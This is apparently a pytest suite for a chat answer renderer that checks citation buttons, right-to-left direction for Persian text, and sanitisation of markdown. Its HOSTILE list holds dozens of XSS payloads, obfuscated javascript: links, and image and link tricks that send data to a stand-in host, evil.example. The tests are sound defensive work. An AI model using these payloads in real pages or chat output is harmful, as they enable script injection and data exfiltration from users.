import html.parser
import re

import pytest

from chat.rendering import direction_of, render_answer

CITATIONS = [
    {"n": 1, "url": "https://docs.example/guide/", "title": 'Guide "<b>"', "quote": "Three."},
    {"n": 2, "url": "http://fa.example:8080/%D8%B4/", "title": "راهنما", "quote": "سه."},
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><input name=q><button>Go</button></form>",
    '<button class="cite" data-n="1" onclick=alert(1)>1</button>',
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<div style='position:fixed;inset:0'>",
    "<p id=login-form name=cookie>",
    "![x](https://evil.example/p.png?leak=1)",
    "![x](https://docs.example/p.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](https://evil.example/?q=secret)",
    "[x](//evil.example/)",
    "[x](/admin/)",
    "[x](\\\\evil.example\\x)",
    "[x](https://docs.example@evil.example/)",
    "[x](https://docs.example:443@evil.example/)",
    "[x](https://docs.example\\@evil.example/)",
    "[x](https://docs.example.evil.example/)",
    "[x](https://evil.example/docs.example)",
    "[x](https://docs.example:8443/)",
    "[x](ftp://docs.example/)",
    "[x](http://[::1/)",
    "[x](https://docs。example.evil.example/)",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://docs.example/" onmouseover="alert(1))',
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "<me@evil.example>",
    "[1](https://evil.example/)",
    "[1]: https://evil.example/\n\nas [1] says",
    "[1]: javascript:alert(1)\n\n[1][1]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- [x](javascript:alert(1))\n- ![x](https://evil.example/p)",
    "سلام <img src=x onerror=alert(1)> دنیا",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "x\x00<script\x00>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]

TAGS = {"p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "br", "hr"}
TAGS |= {"sup", "bdi", "table", "thead", "tbody", "tr", "th", "td", "a", "button"}
ATTRIBUTES = {"dir", "start", "tabindex", "href", "target", "rel", "type", "class", "data-n", "aria-label"}


class Elements(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(markdown, citations=CITATIONS):
    return Elements(render_answer(markdown, citations)).found


@pytest.mark.parametrize("markdown", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "Text {} [1] text", "متن {} [۱] متن", "- item\n\n  {}\n"])
def test_hostile_markdown_becomes_inert_text(markdown, around):
    for tag, attributes in elements(around.format(markdown)):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        if tag == "a":
            assert re.match(r"https://docs\.example(/|$)|http://fa\.example:8080(/|$)", attributes["href"])
            assert attributes["target"] == "_blank"
            assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
        if tag == "button":
            assert set(attributes) == {"type", "class", "data-n", "aria-label"}
            assert attributes["data-n"] in {"1", "2"}


def test_a_hostile_title_and_url_of_a_citation_stay_text():
    citations = [{"n": 1, "url": "javascript:alert(1)", "title": '"><img src=x onerror=alert(1)>', "quote": ""}]

    found = elements("see [1] [x](javascript:alert(1))", citations)

    assert [tag for tag, _ in found] == ["p", "sup", "button"]
    assert found[2][1]["aria-label"] == 'Source 1: "><img src=x onerror=alert(1)>'


@pytest.mark.parametrize(
    "char", [*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c\ufeff\x00\x1b\U000e0041\ud800"]
)
def test_characters_that_reorder_or_hide_text_are_dropped(char):
    assert render_answer(f"pay {char}100{char} now", []) == '<p dir="ltr">pay 100 now</p>\n'


def test_the_joiners_that_persian_needs_are_kept():
    assert "می\u200cشود" in render_answer("می\u200cشود", [])


@pytest.mark.parametrize(
    ("text", "direction"),
    [
        ("Celery یک صف کار برای پایتون است", "rtl"),
        ("The word پاسخ means answer", "ltr"),
        ("۱۲۳ 456 — …", ""),
        ("", ""),
        ("سلام", "rtl"),
        ("שלום hi", "rtl"),
    ],
)
def test_direction_follows_the_majority_of_strong_characters(text, direction):
    assert direction_of(text) == direction


def test_each_block_has_its_own_direction_and_code_does_not_count():
    found = elements("Celery یک صف است.\n\nThis is English.\n\n`a_very_long_identifier_in_code` نام آن است.")

    assert [attributes["dir"] for tag, attributes in found if tag == "p"] == ["rtl", "ltr", "rtl"]


def test_code_is_left_to_right_and_isolated_inside_persian():
    found = elements("دستور `ls -la` را بزنید:\n\n```\nls -la\n```\n")

    assert [attributes.get("dir") for tag, attributes in found if tag in {"code", "pre"}] == ["ltr", "ltr", None]


def test_lists_and_tables_have_one_direction_and_isolate_what_differs():
    html_ = render_answer("- یک مورد فارسی\n- English item\n\n| نام | معنا |\n|--|--|\n| queue | صف |\n", [])

    assert '<ul dir="rtl">\n<li>یک مورد فارسی</li>\n<li><bdi dir="ltr">English item</bdi></li>' in html_
    assert '<table dir="rtl">' in html_
    assert '<td><bdi dir="ltr">queue</bdi></td>' in html_


def test_a_block_without_words_takes_the_direction_of_the_answer():
    assert '<ul dir="rtl">' in render_answer("فهرست اعداد:\n\n- 1\n- 2\n", [])


def test_citations_become_buttons_with_digits_of_their_block():
    found = elements("Three queues [1].\n\nسه صف وجود دارد [۱][2].")

    buttons = [attributes for tag, attributes in found if tag == "button"]
    assert [(button["data-n"], button["aria-label"]) for button in buttons] == [
        ("1", 'Source 1: Guide "<b>"'),
        ("1", 'منبع ۱: Guide "<b>"'),
        ("2", "منبع ۲: راهنما"),
    ]
    assert "۲</button>" in render_answer("سه صف [2].", CITATIONS)


@pytest.mark.parametrize(
    "text", ["see [3]", "see [0]", "see [999]", r"see \[1\]", "see `[1]`", "    [1]", "see [1, 9]"]
)
def test_what_is_not_a_valid_citation_is_not_a_button(text):
    assert [tag for tag, _ in elements(text) if tag == "button"] == []


def test_several_numbers_in_one_bracket_are_several_citations():
    assert [attributes["data-n"] for tag, attributes in elements("both [1, 2]") if tag == "button"] == ["1", "2"]


def test_links_to_cited_hosts_work_and_headings_stay_below_the_page_title():
    found = elements("# Title\n\n[guide](https://docs.example/guide/?a=1&b=2)")

    assert [tag for tag, _ in found] == ["h3", "p", "a"]
    assert found[2][1]["href"] == "https://docs.example/guide/?a=1&b=2"


@pytest.mark.parametrize("length", range(1, 60, 3))
def test_an_answer_that_is_still_growing_renders_at_every_length(length):
    text = "**سه صف** هست [1]:\n\n| a | b |\n|--|--|\n| `x` | [y](https://docs.example/) |\n\n```\ncode"

    assert {tag for tag, _ in elements(text[:length])} <= TAGS


@pytest.mark.parametrize("piece", ["[", "![a", "> ", "- a\n", "[a](", "*_", "|a", "\\[", "[1]", "<", "`"])
def test_a_pathological_answer_is_cut_and_rendered(piece):
    assert render_answer(piece * 40_000, CITATIONS)
